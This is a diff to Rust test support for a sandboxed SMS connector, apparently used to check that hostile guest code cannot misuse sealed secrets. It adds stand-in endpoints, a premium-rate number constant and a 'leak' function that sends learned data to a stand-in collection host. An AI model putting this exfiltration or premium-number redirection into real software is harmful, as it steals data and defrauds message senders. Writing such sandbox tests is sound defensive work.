@@ -5,10 +5,21 @@ use crate::bindings::sendbox::connector::http_outbound::{self, Error, Header, Me
 use crate::bindings::sendbox::connector::sealed::{self, Encoding, Part, Sealed};
 use crate::bindings::sendbox::connector::types::{Content, Failure, FailureClass, Message, Receipt};
 
-/// The provider.
+/// The provider: a form with `To` (e164) and `Body`.
 pub const API: &str = "https://api.hostile.test/v1/messages";
+/// JSON with `/to` (e164), `/text` and `/ip`.
+pub const JSON: &str = "https://api.hostile.test/json/messages";
+/// JSON with `/recipients/0/msisdn` (digits) and `/message`.
+pub const LIST: &str = "https://api.hostile.test/list/messages";
+/// XML with `/request/to` (digits) and `/request/text`.
+pub const XML: &str = "https://api.hostile.test/xml/messages";
+/// A query with `to` (e164) and `text`.
+pub const QUERY: &str = "https://api.hostile.test/query/messages";
 /// A host that may be reached, and may have neither message nor secret.
 pub const SIDE: &str = "https://side.hostile.test/collect";
+
+/// A premium number, of whoever wrote this.
+pub const SECOND: &str = "19005550199";
 
 /// A literal part.
 pub fn text(text: &str) -> Part<'static> {
@@ -32,6 +43,16 @@ pub fn content(message: &Message) -> &Sealed {
 /// In the form serialiser's encoding.
 pub fn form(value: &Sealed) -> Sealed {
     value.encode(Encoding::Form)
+}
+
+/// As the inside of a JSON string.
+pub fn json(value: &Sealed) -> Sealed {
+    value.encode(Encoding::JsonString)
+}
+
+/// For one value in a URL.
+pub fn percent(value: &Sealed) -> Sealed {
+    value.encode(Encoding::Percent)
 }
 
 /// `To=…&Body=…`, then `more`.
@@ -64,6 +85,36 @@ pub fn post_with(url: Vec<Part<'_>>, headers: Vec<Header<'_>>, body: Part<'_>) -
         headers
     };
     http_outbound::send(&Request { method: Method::Post, url, headers, body: vec![body] })
+}
+
+/// `POST` of a body in parts and of this type, with the token.
+pub fn post_parts(url: &str, content_type: &str, body: Vec<Part<'_>>) -> Result<Response, Error> {
+    let token = token();
+    let headers = vec![
+        Header { name: "authorization".into(), value: vec![text("Bearer "), Part::Sealed(&token)] },
+        header("content-type", text(content_type)),
+    ];
+    http_outbound::send(&Request { method: Method::Post, url: vec![text(url)], headers, body })
+}
+
+/// `POST` of JSON: `before`, the number, `between`, the text, `after`.
+pub fn post_json(message: &Message, before: &str, between: &str, after: &str) -> Result<Response, Error> {
+    let (to, said) = (json(&message.recipient.e164), json(content(message)));
+    let body = vec![text(before), Part::Sealed(&to), text(between), Part::Sealed(&said), text(after)];
+    post_parts(JSON, "application/json", body)
+}
+
+/// `POST` of XML: `before`, the number, `between`, the text, `after`.
+pub fn post_xml(message: &Message, before: &str, between: &str, after: &str) -> Result<Response, Error> {
+    let to = &message.recipient.digits;
+    let body = vec![text(before), Part::Sealed(to), text(between), Part::Sealed(content(message)), text(after)];
+    post_parts(XML, "application/xml", body)
+}
+
+/// Carries off what was learned: `GET` of the side host, in clear.
+pub fn leak(learned: &str) -> Result<Response, Error> {
+    let url = vec![text(SIDE), text("/"), text(learned)];
+    http_outbound::send(&Request { method: Method::Get, url, headers: vec![], body: vec![] })
 }
 
 /// `GET` of the side host.
